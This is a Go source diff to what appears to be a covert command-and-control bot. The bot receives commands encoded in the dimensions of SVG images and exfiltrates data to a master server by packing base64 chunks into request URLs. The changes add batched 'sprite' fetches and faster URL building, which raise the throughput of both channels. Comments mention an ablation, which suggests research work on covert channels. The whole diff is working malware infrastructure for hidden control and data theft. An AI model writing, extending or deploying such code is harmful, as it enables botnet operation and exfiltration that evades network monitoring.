@@ -25,6 +25,11 @@ type Bot struct {
 	// requests for multiple images simultaneously"; 1 disables
 	// parallelism (the ablation). Default 8.
 	Concurrency int
+	// BatchSize is how many covert images ride in one sprite request
+	// (the /batch route). It models a browser multiplexing that many
+	// simultaneous image fetches over one connection. Default 64; 1
+	// degrades to one image per request.
+	BatchSize int
 
 	lastSeen int
 }
@@ -43,22 +48,38 @@ func (b *Bot) concurrency() int {
 	return 8
 }
 
-func (b *Bot) fetchSVG(ctx context.Context, url string) (Dim, error) {
+func (b *Bot) batchSize() int {
+	if b.BatchSize > 0 {
+		return b.BatchSize
+	}
+	return 64
+}
+
+// fetchBody retrieves a channel response body of at most limit bytes.
+func (b *Bot) fetchBody(ctx context.Context, url string, limit int64) ([]byte, error) {
 	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
 	if err != nil {
-		return Dim{}, fmt.Errorf("cnc bot: %w", err)
+		return nil, fmt.Errorf("cnc bot: %w", err)
 	}
 	resp, err := b.client().Do(req)
 	if err != nil {
-		return Dim{}, fmt.Errorf("cnc bot fetch: %w", err)
+		return nil, fmt.Errorf("cnc bot fetch: %w", err)
 	}
 	defer func() { _ = resp.Body.Close() }()
 	if resp.StatusCode != http.StatusOK {
-		return Dim{}, fmt.Errorf("cnc bot fetch %s: status %d", url, resp.StatusCode)
+		return nil, fmt.Errorf("cnc bot fetch %s: status %d", url, resp.StatusCode)
 	}
-	body, err := io.ReadAll(io.LimitReader(resp.Body, 4096))
+	body, err := io.ReadAll(io.LimitReader(resp.Body, limit))
 	if err != nil {
-		return Dim{}, fmt.Errorf("cnc bot read: %w", err)
+		return nil, fmt.Errorf("cnc bot read: %w", err)
+	}
+	return body, nil
+}
+
+func (b *Bot) fetchSVG(ctx context.Context, url string) (Dim, error) {
+	body, err := b.fetchBody(ctx, url, 4096)
+	if err != nil {
+		return Dim{}, err
 	}
 	return ParseSVG(body)
 }
@@ -86,23 +107,45 @@ func (b *Bot) Poll(ctx context.Context) (payload []byte, id int, ok bool, err er
 	return data, cmdID, true, nil
 }
 
-// fetchImages retrieves the command's image sequence, in parallel.
+// fetchImages retrieves the command's image sequence: sprite batches of
+// BatchSize images each, fetched in parallel. One sprite request carries
+// what would otherwise be BatchSize round trips, so the downstream path
+// is no longer re-encoding (and re-fetching) per 4-byte chunk.
 func (b *Bot) fetchImages(ctx context.Context, cmdID, count int) ([]Dim, error) {
-	dims := make([]Dim, count)
-	errs := make([]error, count)
+	dims := make([]Dim, 0, count)
+	bs := b.batchSize()
+	nBatches := (count + bs - 1) / bs
+	batches := make([][]Dim, nBatches)
+	errs := make([]error, nBatches)
 	sem := make(chan struct{}, b.concurrency())
 	var wg sync.WaitGroup
-	for seq := 0; seq < count; seq++ {
+	for bi := 0; bi < nBatches; bi++ {
 		wg.Add(1)
-		go func(seq int) {
+		go func(bi int) {
 			defer wg.Done()
 			sem <- struct{}{}
 			defer func() { <-sem }()
-			url := fmt.Sprintf("%s/img/%s/%d/%d.svg", b.BaseURL, b.ID, cmdID, seq)
-			d, err := b.fetchSVG(ctx, url)
-			dims[seq] = d
-			errs[seq] = err
-		}(seq)
+			from := bi * bs
+			n := bs
+			if from+n > count {
+				n = count - from
+			}
+			url := fmt.Sprintf("%s/batch/%s/%d/%d/%d.svg", b.BaseURL, b.ID, cmdID, from, n)
+			// The read limit scales with the batch: each tile is at most
+			// maxTileLen bytes, so large BatchSize configurations are not
+			// silently truncated into tile-count mismatches.
+			limit := int64(n*maxTileLen + 256)
+			body, err := b.fetchBody(ctx, url, limit)
+			if err != nil {
+				errs[bi] = err
+				return
+			}
+			got, err := ParseBatchSVG(make([]Dim, 0, n), body)
+			if err == nil && len(got) != n {
+				err = fmt.Errorf("cnc bot batch %s: %d images, want %d", url, len(got), n)
+			}
+			batches[bi], errs[bi] = got, err
+		}(bi)
 	}
 	wg.Wait()
 	for _, err := range errs {
@@ -110,25 +153,50 @@ func (b *Bot) fetchImages(ctx context.Context, cmdID, count int) ([]Dim, error) 
 			return nil, err
 		}
 	}
+	for _, batch := range batches {
+		dims = append(dims, batch...)
+	}
 	return dims, nil
 }
 
 // Upload exfiltrates data to the master under a stream name, encoded
-// entirely in request URLs.
+// entirely in request URLs. Each URL is assembled in one pass — prefix
+// and base64 chunk append into a single buffer — instead of
+// materialising the chunk string and then formatting it again.
 func (b *Bot) Upload(ctx context.Context, stream string, data []byte) error {
-	chunks := EncodeURLChunks(data, DefaultChunkSize)
+	nChunks := (len(data) + DefaultChunkSize - 1) / DefaultChunkSize
+	if nChunks == 0 {
+		nChunks = 1
+	}
+	urls := make([]string, nChunks)
+	var buf []byte
+	for seq := 0; seq < nChunks; seq++ {
+		chunk := data[seq*DefaultChunkSize:]
+		if len(chunk) > DefaultChunkSize {
+			chunk = chunk[:DefaultChunkSize]
+		}
+		buf = append(buf[:0], b.BaseURL...)
+		buf = append(buf, "/up/"...)
+		buf = append(buf, b.ID...)
+		buf = append(buf, '/')
+		buf = append(buf, stream...)
+		buf = append(buf, '/')
+		buf = strconv.AppendInt(buf, int64(seq), 10)
+		buf = append(buf, '/')
+		buf = AppendURLChunk(buf, chunk)
+		urls[seq] = string(buf)
+	}
 	sem := make(chan struct{}, b.concurrency())
-	errs := make([]error, len(chunks))
+	errs := make([]error, len(urls))
 	var wg sync.WaitGroup
-	for seq, chunk := range chunks {
+	for seq, url := range urls {
 		wg.Add(1)
-		go func(seq int, chunk string) {
+		go func(seq int, url string) {
 			defer wg.Done()
 			sem <- struct{}{}
 			defer func() { <-sem }()
-			url := fmt.Sprintf("%s/up/%s/%s/%s/%s", b.BaseURL, b.ID, stream, strconv.Itoa(seq), chunk)
 			errs[seq] = b.get(ctx, url)
-		}(seq, chunk)
+		}(seq, url)
 	}
 	wg.Wait()
 	for _, err := range errs {
